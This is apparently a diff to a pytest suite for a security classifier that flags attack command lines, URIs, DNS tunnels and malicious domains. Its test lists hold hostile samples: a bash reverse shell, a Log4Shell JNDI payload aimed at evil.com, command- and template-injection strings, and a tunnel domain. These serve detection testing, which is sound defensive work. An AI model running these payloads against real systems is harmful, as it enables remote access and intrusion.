@@ -61,7 +61,6 @@ def test_what_no_name_can_be_is_no_threat(model: EdgeDemist, task: str, text: st
     assert not answer.alarm and answer.label == "unknown"
 
 
-# Of K21, ``passwd`` alone and ``this is a 'test' input`` still alarm: they are not here.
 HARMLESS = [
     ("cmdline", r'"C:\WINDOWS\system32\cmd.exe" /d /c C:\WINDOWS\system32\hpatchmonTask.cmd'),
     ("cmdline", r"C:\WINDOWS\system32\UsoClient.exe StartScan"),
@@ -100,6 +99,10 @@ QUIET = [  # at one false alarm in a thousand
     ("dga", "7q3laqg6wohunnvj4jkor6kawqbqeaqbaeaq.a.e.e5.sk"),
     ("dns-tunnel", "7q3laqg6wohunnvj4jkor6kawqbqeaqbaeaq.a.e.e5.sk"),
     ("dga", "cbq.qa"),
+    *(
+        ("uri-attack", text)
+        for text in ("passwd", "this is a 'test' input", "/account/passwd", "/search?q=passwd", "/union/", "/wp-admin/")
+    ),
 ]
 COMPUTERS = ["DESKTOP-7Q2LK9V", "NPI8D2F61", "KMBT4F1C2A", "xkvbqtrwzjm", "qzwkjxvhpl", "srv-exch-01", "lhgfdsaqwe.", "fritz"]
 
@@ -127,15 +130,20 @@ K15 = ["slscr.update.microsoft.com", "iphone-ld.apple.com", "us04web.zoom.us", "
 
 
 @pytest.mark.parametrize(("task", "text"), QUIET, ids=lambda value: value[:40])
-def test_k1_to_k13_are_quiet_at_one_in_a_thousand(model: EdgeDemist, task: str, text: str) -> None:
+def test_k1_to_k21_are_quiet_at_one_in_a_thousand(model: EdgeDemist, task: str, text: str) -> None:
     answer = model.classify(text, task=task, fpr=1e-3)[0]
-    assert not answer.alarm and answer.label in ("legit", "unknown")
+    assert not answer.alarm and answer.label in ("legit", "normal", "unknown")
 
 
 @pytest.mark.parametrize("odd", list("'@!%,;$ +=/:"))
 def test_b_no_character_of_a_query_switches_a_tunnel_off(model: EdgeDemist, odd: str) -> None:
     name = "mfzwizltmrqxgzdgmfzwizltmrqxgzdgnbuw4zy.orsxg5dtnruxiztmnfzxi43pmrqxgzdg.t.evil.example"
     assert all(answer.alarm for answer in model.classify([name, name[:9] + odd + name[10:]], task="dns-tunnel"))
+
+
+@pytest.mark.parametrize("text", ["Microsoft NCSI", "Mozilla/5.0"])
+def test_k17_an_operating_system_is_no_attack_tool(model: EdgeDemist, text: str) -> None:
+    assert model.classify(text, task="user-agent")[0].label != "attack-tool"
 
 
 @pytest.mark.parametrize("name", K15)
@@ -163,6 +171,8 @@ ATTACKS = [
     ("cmdline", CRADLE),
     ("cmdline", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
     ("uri-attack", "{{7*7}}"),
+    ("uri-attack", "/hello/${7*7}"),
+    ("uri-attack", "/a/<%= 7*7 %>"),
     ("uri-attack", ";id"),
     ("uri-attack", "/ping?host=8.8.8.8|whoami"),
     ("uri-attack", "/?x=${jndi:ldap://evil.com/a}"),
